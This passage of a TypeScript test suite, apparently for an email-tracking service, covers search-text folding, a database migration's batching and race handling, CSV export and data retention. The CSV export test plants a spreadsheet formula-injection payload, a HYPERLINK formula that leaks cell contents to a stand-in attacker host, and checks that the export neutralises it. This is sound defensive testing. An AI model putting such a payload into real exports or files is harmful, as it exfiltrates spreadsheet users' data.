    await sentMessage(account, { subject: "Offre 100 remisée pour le client prioritaire de Société Générale ailleurs" });
    const search = (q: string) => account.json<MessagesResponse>("GET", `/api/messages?q=${encodeURIComponent(q)}`);
    expect(new TextEncoder().encode(foldForSearch(subject)).length).toBeGreaterThan(50);
    const found = await search(subject);
    expect(found.status).toBe(200);
    expect(found.body.messages.map((m) => m.id)).toEqual([meeting.id]);
    // % and _ are the characters themselves: the third subject, where a wildcard would match them, is not found.
    const literal = await search("100% remisée pour le_client_prioritaire de Société");
    expect(literal.status).toBe(200);
    expect(literal.body.messages.map((m) => m.id)).toEqual([offer.id]);
    expect((await search("100_ remis")).body.messages).toEqual([]);
  });
});

describe("migration 0018", () => {
  it("folds long texts over several runs, each binding less than D1's 2 MB a value", async () => {
    const db = env.DB;
    // 500 emails of 998-character Japanese subjects (3 bytes a character), as the schema up to 0017 wrote them.
    await db.batch([
      blankAccount("acct-cjk", db),
      db
        .prepare(
          `INSERT INTO messages (id, account_id, subject, updated_at)
         WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 499) SELECT 'cjk-' || i, 'acct-cjk', ?, 0 FROM n`,
        )
        .bind("価格".repeat(499)),
    ]);
    const unfolded = async () =>
      (await db.prepare("SELECT count(*) AS n FROM messages WHERE account_id = 'acct-cjk' AND search_text IS NULL").first<{ n: number }>())
        ?.n;
    // Other tests' rows may wait for a fold too: these emails' own count says what each run took of them.
    const runs: number[] = [];
    for (let left = await unfolded(); left && runs.length < 10; ) {
      await foldStoredSearchText(db, 500);
      const now = await unfolded();
      runs.push((left ?? 0) - (now ?? 0));
      left = now;
    }
    expect(await unfolded()).toBe(0);
    expect(runs.length).toBeGreaterThan(1);
    expect(runs.every((n) => n > 0 && n < 500)).toBe(true);
  });

  it("folds the search text of the ASCII rows stored before it, and the hourly run the others, reading none once done", async () => {
    const db = env.MIGRATION_TEST_DB;
    const subjects = ["Proposal for Acme 50% off_sale", "Éclair pricing", "Réunion: ＡＢＣ", "tab\there"];
    const recipients: [string, string | null][] = [
      ["bea@acme.example", "Bea Buyer"],
      ["nobody@acme.example", null],
      ["empty@acme.example", ""],
      ["e.durand@acme.example", "Émilie Durand"],
      ["jörg@münchen.example", null],
    ];
    // Rows as the schema up to 0017 wrote them, and a deleted email's tombstone (no subject).
    await migrateRowsAcross("0018_search_text.sql", [
      blankAccount("acct-a"),
      ...subjects.map((subject, i) =>
        db.prepare("INSERT INTO messages (id, account_id, subject, updated_at) VALUES (?, 'acct-a', ?, 0)").bind(`m-${i}`, subject),
      ),
      db.prepare("INSERT INTO messages (id, account_id, subject, updated_at, deleted_at) VALUES ('m-gone', 'acct-a', NULL, 0, 0)"),
      ...recipients.map(([email, name], i) =>
        db
          .prepare("INSERT INTO message_recipients (message_id, account_id, email, name) VALUES (?, 'acct-a', ?, ?)")
          .bind(`m-${i}`, email, name),
      ),
    ]);
    const stored = async () => ({
      messages: new Map(
        (await db.prepare("SELECT id, search_text FROM messages").all<{ id: string; search_text: string | null }>()).results.map((r) => [
          r.id,
          r.search_text,
        ]),
      ),
      recipients: new Map(
        (
          await db.prepare("SELECT email, search_text FROM message_recipients").all<{ email: string; search_text: string | null }>()
        ).results.map((r) => [r.email, r.search_text]),
      ),
    });
    const folded = {
      messages: new Map([...subjects.map((subject, i): [string, string | null] => [`m-${i}`, foldForSearch(subject)]), ["m-gone", null]]),
      recipients: new Map(recipients.map(([email, name]): [string, string | null] => [email, recipientSearchText(name, email)])),
    };
    // The migration's SQL folds the all-ASCII texts as foldForSearch does, and leaves the others to the worker.
    expect(await stored()).toEqual({
      messages: new Map([
        ["m-0", "proposal for acme 50% off_sale"],
        ["m-1", null],
        ["m-2", null],
        ["m-3", "tab\there"],
        ["m-gone", null],
      ]),
      recipients: new Map([
        ["bea@acme.example", "bea buyer bea@acme.example"],
        ["nobody@acme.example", "nobody@acme.example"],
        ["empty@acme.example", "empty@acme.example"],
        ["e.durand@acme.example", null],
        ["jörg@münchen.example", null],
      ]),
    });
    expect(await foldStoredSearchText(db, 1)).toBe(2);
    expect(await foldStoredSearchText(db, 500)).toBe(2);
    expect(await stored()).toEqual(folded);
    // Done, with 100 more emails written since (their text folded as they were): one query, which reads the empty
    // indexes of the rows without search text, one row a table by D1's count, not the 110 rows of each table.
    await db.batch([
      db.prepare(
        `INSERT INTO messages (id, account_id, subject, search_text, updated_at)
         WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 99) SELECT 'new-' || i, 'acct-a', 'Été ' || i, 'ete ' || i, 0 FROM n`,
      ),
      db.prepare(
        `INSERT INTO message_recipients (message_id, account_id, email, name, search_text)
         SELECT id, account_id, 'a@acme.example', 'Anaïs', 'anais a@acme.example' FROM messages WHERE id LIKE 'new-%'`,
      ),
    ]);
    const counted = new FlakyD1(db, () => false);
    expect(await foldStoredSearchText(counted.asD1(), 500)).toBe(0);
    expect({ calls: counted.calls, rowsRead: counted.rowsRead }).toEqual({ calls: 1, rowsRead: 2 });
  });

  it("folds a text only where it is still stored: not onto an email deleted after the run read it, nor a name changed", async () => {
    const db = env.MIGRATION_TEST_DB;
    await applyD1Migrations(db, env.TEST_MIGRATIONS);
    // Written without search text, as by a worker still running the code before 0018 while it was deployed.
    await db.batch([
      db.prepare("INSERT OR IGNORE INTO accounts (id, token_hash, created_at) VALUES ('acct-b', '', 0)"),
      db.prepare(
        "INSERT INTO messages (id, account_id, subject, updated_at) VALUES ('race-1', 'acct-b', 'Été', 0), ('race-2', 'acct-b', 'Noël', 0)",
      ),
      db.prepare(
        "INSERT INTO message_recipients (message_id, account_id, email, name) VALUES ('race-2', 'acct-b', 'z@acme.example', 'Zoé')",
      ),
    ]);
    // Between the run's read and its write, one email is deleted and the other registered again by that code.
    let batches = 0;
    const meanwhile = d1WithWriteBeforeEachBatch(db, async () => {
      if (++batches !== 2) return;
      await db.batch([
        db.prepare("UPDATE messages SET subject = NULL, search_text = NULL, deleted_at = 1 WHERE id = 'race-1'"),
        db.prepare("UPDATE messages SET subject = 'Noël 2' WHERE id = 'race-2'"),
        db.prepare("DELETE FROM message_recipients WHERE message_id = 'race-2'"),
        db.prepare(
          "INSERT INTO message_recipients (message_id, account_id, email, name) VALUES ('race-2', 'acct-b', 'z@acme.example', 'Zoë Martin')",
        ),
      ]);
    });
    const searchText = async () => ({
      messages: (await db.prepare("SELECT id, search_text FROM messages WHERE account_id = 'acct-b' ORDER BY id").all()).results,
      recipients: (await db.prepare("SELECT name, search_text FROM message_recipients WHERE account_id = 'acct-b'").all()).results,
    });
    await foldStoredSearchText(meanwhile, 500);
    expect(batches).toBe(2);
    expect(await searchText()).toEqual({
      messages: [
        { id: "race-1", search_text: null },
        { id: "race-2", search_text: null },
      ],
      recipients: [{ name: "Zoë Martin", search_text: null }],
    });
    // The next run folds the texts as they are now; the deleted email keeps none.
    await foldStoredSearchText(db, 500);
    expect(await searchText()).toEqual({
      messages: [
        { id: "race-1", search_text: null },
        { id: "race-2", search_text: "noel 2" },
      ],
      recipients: [{ name: "Zoë Martin", search_text: "zoe martin z@acme.example" }],
    });
  });
});

describe("CSV export", () => {
  it("exports messages, events and contacts as inert, RFC 4180 CSV", async () => {
    const account = await createAccount();
    const subject = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const message = await sentMessage(account, {
      subject,
      campaign: "+campaign",
      recipients: [{ email: "a@acme.example", name: '@Ann, "the" buyer' }],
    });
    await openPixel(message.id);
    await waitForEvents(message.id, 1);
    await reply(account, message.threadId ?? "", "a@acme.example", "msg-f:csv");
    const get = (path: string) => account.api(path);
    const messages = await get("/api/export/messages.csv");
    expect(messages.status).toBe(200);
    expect(messages.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(messages.headers.get("content-disposition")).toBe('attachment; filename="messages.csv"');
    const text = await messages.text();
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(
      "id,sent_at,subject,recipients,campaign,thread_id,state,opens,first_open_at,last_open_at,clicks,last_click_at,replies,bounce,unsubscribed",
    );
    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(lines[1]).toContain(",'+campaign,");
    expect(lines[1]).toContain(",opened,1,");
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)[=+\-@]/);
    const events = await (await get("/api/export/events.csv")).text();
    expect(events.split("\r\n")[0]).toBe(
      "at,message_id,subject,campaign,recipients,kind,label,counted,link_index,link_url,email,bounce_kind,country,region,client,device",
    );
    // An open of an email sent to one address names it; the recipients column lists the email's addresses.
    expect(events).toContain(",a@acme.example,open,human,true,,,a@acme.example,");
    expect(events).toContain(",a@acme.example,reply,,true,,,a@acme.example,");
    expect(events).not.toMatch(/(^|,)=HYPERLINK/m);
    const contacts = await (await get("/api/export/contacts.csv")).text();
    expect(contacts.split("\r\n")[1]).toMatch(/^a@acme\.example,"'@Ann, ""the"" buyer",\d+(\.\d+)?,/);
    const stranger = await createAccount();
    const empty = await (await stranger.api("/api/export/messages.csv")).text();
    expect(empty.split("\r\n").filter(Boolean)).toHaveLength(1);
    expect((await call("/api/export/events.csv")).status).toBe(401);
  });
});

describe("retention", () => {
  it("the daily purge deletes replies and bounces past the account's retention, keeping the suppression list", async () => {
    const account = await createAccount();
    await sentMessage(account, { threadId: "t-ret", recipients: [{ email: "gone@acme.example" }], sentAt: ago(100 * 24 * HOUR) });
    await account.json("POST", "/api/signals", {
      signals: [
        { kind: "reply", threadId: "t-ret", gmailMessageId: "msg-f:old", at: ago(95 * 24 * HOUR), from: "gone@acme.example" },
        { kind: "bounce", threadId: "t-ret", gmailMessageId: "msg-f:new", at: ago(HOUR), bounce: { kind: "hard", recipients: [] } },
      ],
    });
    await worker.scheduled(createScheduledController({ scheduledTime: Date.now(), cron: "23 * * * *" }), env);
    const { results } = await env.DB.prepare("SELECT source_id FROM signals WHERE account_id = ?")
      .bind(account.accountId)
      .all<{ source_id: string }>();
    expect(results.map((r) => r.source_id)).toEqual(["msg-f:new"]);
    const checked = await account.json<{ contacts: { suppressed: boolean }[] }>("POST", "/api/contacts/check", {
      emails: ["gone@acme.example"],
    });
    expect(checked.body.contacts[0]?.suppressed).toBe(true);
  });
});
